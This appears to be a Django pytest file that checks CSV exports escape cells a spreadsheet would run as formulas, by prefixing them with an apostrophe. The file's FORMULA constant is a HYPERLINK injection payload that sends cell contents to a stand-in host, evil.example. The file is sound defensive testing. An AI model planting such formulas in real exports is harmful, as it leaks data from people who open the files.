"""CSV cells that a spreadsheet would run as a formula are neutralised in every export."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from apps.core.csv import csv_safe, csv_safe_row
from apps.keys.models import Key

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_is_prefixed_with_an_apostrophe(start):
    assert csv_safe(f"{start}1+2") == f"'{start}1+2"


def test_numbers_and_plain_text_pass_unchanged():
    assert csv_safe_row([-3.5, 0, "plain", "a=b", None]) == [-3.5, 0, "plain", "a=b", None]


def test_a_key_named_like_a_formula_lands_as_text_in_the_export(client_for, finance, synced):
    for key in Key.objects.filter(organisation=synced):
        key.name = FORMULA
        key.save(update_fields=["name"])
    export = client_for(finance).get(reverse("spend:export"), {"by": "key"})
    text = b"".join(export.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells  # the key is in the export, as text
    assert FORMULA not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) and "HYPERLINK" in c]
